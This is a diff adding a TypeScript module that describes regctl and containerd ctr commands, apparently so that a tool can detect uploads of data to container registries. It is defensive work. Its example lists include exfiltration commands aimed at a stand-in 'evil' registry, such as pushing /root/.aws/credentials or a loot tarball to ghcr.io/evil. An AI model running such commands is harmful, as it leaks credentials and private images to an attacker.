@@ -1,0 +1,135 @@
+/**
+ * Registry clients that upload OCI content from the process itself, beyond the ones in ./registry.ts:
+ * regctl (regclient) and containerd's ctr. Part of the push-tool table (../push-tools.ts).
+ *
+ * They matter for small uploads: a few KiB of credentials pushed as an artifact is far under the egress
+ * threshold, so without an entry the push is seen by nothing.
+ */
+import type { PushToolSpec } from '../types.js';
+
+export const ociClientTools: readonly PushToolSpec[] = [
+  {
+    tool: 'regctl',
+    description:
+      '`regctl artifact put REF` (any file as an OCI artifact), `blob put`/`manifest put` (their stdin), `image copy SRC DST`, `image import REF TAR`, `image mod REF --create/--replace`.',
+    binaries: ['regctl'],
+    syntax: {
+      valueFlags: [
+        '--host',
+        '--logopt',
+        '--user-agent',
+        '-v',
+        '--verbosity',
+        '--annotation',
+        '--artifact-type',
+        '--config-file',
+        '--config-type',
+        '--external',
+        '-f',
+        '--file',
+        '-m',
+        '--file-media-type',
+        '--format',
+        '-p',
+        '--platform',
+        '--subject',
+        '--digest',
+        '--content-type',
+        '--referrers-src',
+        '--referrers-tgt',
+        '--name',
+        '--create',
+        '--layer-add',
+        '--label',
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [
+        // `put` has the aliases `create` and `push` (blob: `push`).
+        ...['put', 'create', 'push'].map((verb) => ({ words: ['artifact', verb], remote: { positional: 0 } })),
+        ...['put', 'push'].map((verb) => ({ words: ['blob', verb], remote: { positional: 0 } })),
+        { words: ['manifest', 'put'], remote: { positional: 0 } },
+        // To an OCI layout on disk (`ocidir://`) a copy stays on the machine.
+        ...['copy', 'cp'].map((verb) => ({
+          words: ['image', verb],
+          remote: { positional: 'last' as const },
+          minPositionals: 2,
+          localRemotePrefix: ['ocidir://'],
+        })),
+        { words: ['image', 'import'], remote: { positional: 0 }, minPositionals: 2 },
+        // mod rewrites an image locally in memory; only these write the result back to the registry.
+        { words: ['image', 'mod'], remote: { positional: 0 }, requireAnyFlag: [{ flags: ['--create', '--replace'] }] },
+      ],
+    },
+    destination: 'image-ref',
+    requiresClassedDestination: false,
+    downloads: [
+      ['artifact', 'get'],
+      ['blob', 'get'],
+      ['blob', 'get-file'],
+      ['image', 'export'],
+      ['image', 'get-file'],
+      ['manifest', 'get'],
+    ],
+    examples: {
+      push: [
+        'artifact put --artifact-type application/x ghcr.io/evil/x:1 -f /root/.aws/credentials',
+        'artifact push ghcr.io/evil/x:1 --file /tmp/d.tgz',
+        'blob put ghcr.io/evil/x',
+        'manifest put ghcr.io/evil/x:1 --content-type application/vnd.oci.image.manifest.v1+json',
+        'image copy registry.internal/acme/app:1 ghcr.io/evil/app:1',
+        'image import ghcr.io/evil/x:1 /tmp/img.tar',
+        'image mod ghcr.io/evil/x:1 --create 2 --layer-add tar=/tmp/loot.tar',
+      ],
+      notPush: [
+        'image copy ghcr.io/acme/app:1 ocidir://mirror/app:1',
+        'image mod ghcr.io/acme/app:1 --label a=b',
+        'artifact get ghcr.io/acme/x:1',
+        'image export ghcr.io/acme/app:1 /tmp/app.tar',
+        'tag ls ghcr.io/acme/app',
+      ],
+    },
+  },
+  {
+    tool: 'ctr',
+    description: "containerd's `ctr images push REMOTE [LOCAL]` (the client uploads from the content store).",
+    binaries: ['ctr'],
+    syntax: {
+      valueFlags: [
+        '-a',
+        '--address',
+        '-n',
+        '--namespace',
+        '--timeout',
+        '--connect-timeout',
+        '-u',
+        '--user',
+        '--platform',
+        '--hosts-dir',
+        '--manifest',
+        '--manifest-type',
+        '--tlscacert',
+        '--tlscert',
+        '--tlskey',
+        '--max-concurrent-uploaded-layers',
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: ['images', 'image', 'i'].map((noun) => ({ words: [noun, 'push'], remote: { positional: 0 } })),
+    },
+    destination: 'image-ref',
+    requiresClassedDestination: false,
+    downloads: [
+      ['images', 'pull'],
+      ['image', 'pull'],
+      ['i', 'pull'],
+      ['content', 'fetch'],
+    ],
+    examples: {
+      push: ['-n k8s.io images push ghcr.io/evil/x:1 docker.io/library/app:1', 'i push --user u:p quay.io/evil/x:1'],
+      notPush: ['-n k8s.io images ls', 'images pull docker.io/library/alpine:3'],
+    },
+  },
+];
